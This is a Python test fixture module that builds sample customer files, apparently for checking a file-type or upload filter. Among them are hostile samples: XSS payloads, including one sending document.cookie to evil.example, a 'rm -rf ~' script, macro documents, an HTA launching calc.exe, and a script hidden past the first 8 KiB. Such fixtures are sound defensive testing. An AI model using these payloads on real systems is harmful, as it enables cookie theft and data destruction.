"""Real file contents of each kind a customer might send, made on the spot."""

import io
import struct
import zipfile
import zlib


def png_bytes() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def pdf_bytes() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )


def jpeg_bytes() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64 + b"\xff\xd9"


def _office_open_xml(main_part: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        archive.writestr(main_part, '<?xml version="1.0"?><root/>')
    return buffer.getvalue()


def docx_bytes() -> bytes:
    return _office_open_xml("word/document.xml")


def xlsx_bytes() -> bytes:
    return _office_open_xml("xl/workbook.xml")


def exe_bytes() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 200


def elf_bytes() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'
SHELL_SCRIPT = b"#!/bin/sh\nrm -rf ~\n"
CSV = "name;amount\nMüller GmbH;12\n".encode()
TEXT = b"Meeting notes: the export must run nightly.\n"


def gif_bytes() -> bytes:
    return (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
        b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    )


def webp_bytes() -> bytes:
    body = b"WEBPVP8L" + struct.pack("<I", 10) + b"\x2f\x00\x00\x00\x00\x07\x10\x11\x11\x08"
    return b"RIFF" + struct.pack("<I", len(body)) + body


def pptx_bytes() -> bytes:
    return _office_open_xml("ppt/presentation.xml")


def macro_docx_bytes() -> bytes:
    """A macro-enabled Word document (.docm) renamed .docx: its VBA project sits in the package."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", '<?xml version="1.0"?><root/>')
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 64)
    return buffer.getvalue()


def _open_document(mimetype: str, *extra: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype)  # first and stored, as ODF requires
        archive.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
        for name in extra:
            archive.writestr(name, "Sub AutoOpen\nEnd Sub\n")
    return buffer.getvalue()


def odt_bytes(*extra: str) -> bytes:
    return _open_document("application/vnd.oasis.opendocument.text", *extra)


def ods_bytes() -> bytes:
    return _open_document("application/vnd.oasis.opendocument.spreadsheet")


def odp_bytes() -> bytes:
    return _open_document("application/vnd.oasis.opendocument.presentation")


OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def doc_bytes(*, macros: bool = False) -> bytes:
    """A legacy Word file as `filetype` knows it; with macros, its VBA project is named past the first 8 KiB."""
    body = OLE_HEADER + b"\xec\xa5\xc1\x00" + b"\x00" * 12000
    return body + ("_VBA_PROJECT".encode("utf-16-le") if macros else b"") + b"\x00" * 512


def xls_bytes(*, macros: bool = False) -> bytes:
    body = OLE_HEADER + b"\x09\x08\x10\x00\x00\x06\x05\x00" + b"\x00" * 12000
    return body + ("_VBA_PROJECT".encode("utf-16-le") if macros else b"") + b"\x00" * 512


# The files of issue 19's report. `report.html`: a harmless first 8 KiB, its script after them.
REPORT_HTML = b"Quarterly report\n" + b"All figures are in the table below.\n" * 300 + b"<script>alert(1)</script>\n"
IMG_ONERROR = b"<p>See the chart:</p>\n<img src=x onerror=\"fetch('//evil.example/?'+document.cookie)\">\n"
HTA = (
    b'<hta:application id="update" windowstate="minimize">\n'
    b'<script language="VBScript">CreateObject("WScript.Shell").Run "calc.exe"</script>\n'
)
